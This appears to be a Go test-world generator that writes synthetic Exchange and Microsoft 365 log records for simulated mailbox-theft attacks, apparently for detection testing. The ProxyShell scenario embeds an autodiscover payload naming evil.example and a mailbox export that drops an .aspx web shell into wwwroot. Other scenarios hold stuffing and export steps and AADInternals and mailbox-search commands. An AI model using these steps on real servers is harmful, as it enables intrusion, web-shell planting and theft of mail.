package world

import (
	"net/netip"
	"slices"
	"time"

	"redshank/test/world/dice"
	"redshank/test/world/lines"
)

func (w theftPlanner) bareEWS(name string) {
	a, p := w.steal(name, isScripted...), w.victim(false)
	at := w.Day(w.Number(min(4, w.Days-1), w.Days-1), 1+3*w.Rand.Float64())
	c := lines.Client{IP: w.hosted()}
	w.At(at, func(at time.Time) {
		w.log.Challenge(at, c, lines.EWS, "")
		for range w.Number(200, 350) {
			at = at.Add(w.Between(700*time.Millisecond, 2500*time.Millisecond))
			a.Saw(at, c.IP, p.upn())
			w.log.Basic(at, c, lines.EWS, p.upn(), "", lines.Right)
		}
	})
}

func (w theftPlanner) stuffedExport(name string) {
	a, p, at := w.steal(name, isExport...), w.victim(false), w.mature(0)
	c := lines.Client{IP: w.hosted(), Agent: oldChrome}
	targets := w.pairs(w.Number(10, 25), 0.1)
	targets = append(targets, aim(p))
	w.assault(assault{kind: "stuffing before an export", classes: isStuffing, start: at.Add(-20 * time.Minute), way: always(lines.ByForm), from: single(c), targets: targets, pause: w.every(8 * time.Second), hits: map[int]lines.Verdict{len(targets) - 1: lines.Right}})
	w.At(at, func(at time.Time) {
		shell := lines.Client{IP: c.IP, Agent: "Microsoft WinRM Client"}
		for range 6 {
			a.Saw(at, c.IP, p.upn())
			w.log.Signed(at, shell, lines.PowerShell, p.upn(), "", 4000)
			at = at.Add(w.Between(2*time.Second, 20*time.Second))
		}
		w.log.Cmdlet(at, w.org.domain+"/Users/"+p.name, "New-MailboxExportRequest", `-Mailbox "`+p.name+`" -FilePath "\\`+w.log.Servers[0]+`\c$\inetpub\temp\a.pst"`)
	})
}

func (w theftPlanner) guessedEWS(name string) {
	a, p, at := w.steal(name, isScripted...), w.victim(false), w.mature(0)
	c := lines.Client{IP: w.hosted(), Agent: w.browser()}
	w.At(at, func(at time.Time) {
		for range 4 {
			w.log.Form(at, c, p.upn(), lines.Wrong)
			a.Saw(at, c.IP, p.upn())
			at = at.Add(w.Between(20*time.Second, 90*time.Second))
		}
		w.log.Form(at, c, p.upn(), lines.Right)
		a.Found(p.upn(), c.IP)
		script := lines.Client{IP: c.IP, Agent: "ExchangeServicesClient/15.00.0913.015"}
		at = at.Add(w.Between(2*time.Minute, 10*time.Minute))
		for range w.Number(40, 120) {
			a.Saw(at, c.IP, p.upn())
			w.log.Basic(at, script, lines.EWS, p.upn(), "", lines.Right)
			at = at.Add(w.Between(time.Second, 9*time.Second))
		}
	})
}

func (w theftPlanner) proxyShell(name string) {
	a, p, at := w.steal(name, isExport...), w.victim(false), w.mature(0)
	c := lines.Client{IP: w.hosted(), Agent: dice.One(w, []string{"python-requests/2.31.0", "Mozilla/5.0"})}
	a.Host = w.log.Servers[0] + "." + w.org.domain
	w.At(at, func(at time.Time) {
		for range 12 {
			a.Saw(at, c.IP, p.upn())
			w.log.Web(lines.Request{At: at, Client: c, Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3f@evil.example", Status: 200, Out: 1500})
			at = at.Add(w.Between(time.Second, 6*time.Second))
		}
		user := w.org.domain + "/Users/" + w.org.admins[0].name
		a.Saw(at, c.IP, w.org.admins[0].upn())
		w.log.Cmdlet(at, user, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+w.org.admins[0].name+`"`)
		w.log.Cmdlet(at.Add(8*time.Second), user, "New-MailboxExportRequest", `-Mailbox "`+p.name+`" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq 'a')" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\x.aspx"`)
		w.log.Cmdlet(at.Add(40*time.Second), user, "Remove-MailboxExportRequest", `-Confirm "False"`)
	})
}

func (w theftPlanner) scriptBlock(name string) {
	a, p, at := w.steal(name, "collection_tool"), w.victim(false), w.mature(0)
	a.Host = "WS" + w.Hex(4) + "." + w.org.domain
	user := w.org.netbios + `\` + p.name
	w.At(at, func(at time.Time) {
		a.Saw(at, netip.Addr{}, p.upn())
		w.log.ScriptBlock(at, a.Host, user, dice.One(w, []string{
			"Import-Module .\\AADInternals.psd1; $t = Get-AADIntAccessTokenForEXO; Open-AADIntOWA -AccessToken $t",
			"Invoke-GlobalMailSearch -ImpersonationAccount " + p.name + " -ExchHostname mail." + w.org.domain + " -OutputCsv all.csv",
			"Invoke-RefreshToOutlookToken -domain " + w.org.domain + "; Invoke-DumpOWAMailboxViaMSGraphApi -AccessToken $MSGraphToken -mailFolder AllItems",
			"Get-GraphTokens; Invoke-SearchMailbox -Tokens $tokens -SearchTerm \"password\" -MessageCount 40",
		}))
		w.log.Query(at.Add(3*time.Second), a.Host, user, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, dice.One(w, []string{"outlook.office365.com", "graph.microsoft.com"}))
	})
}

func (w theftPlanner) dumpIMAP(name string) {
	a, p, at := w.steal(name, slices.Concat(isScripted, isReplay)...), w.victim(false), w.mature(0)
	c := lines.Client{IP: dice.One(w, slices.Concat(w.nets.hosting, w.nets.foreign)).V4(w.Rand.Uint64())}
	w.At(at, func(at time.Time) {
		for range 5 {
			a.Saw(at, c.IP, p.upn())
			w.log.IMAP(at, c, p.upn(), lines.Right, w.Number(80, 200))
			at = at.Add(w.Between(2*time.Minute, 6*time.Minute))
		}
	})
}
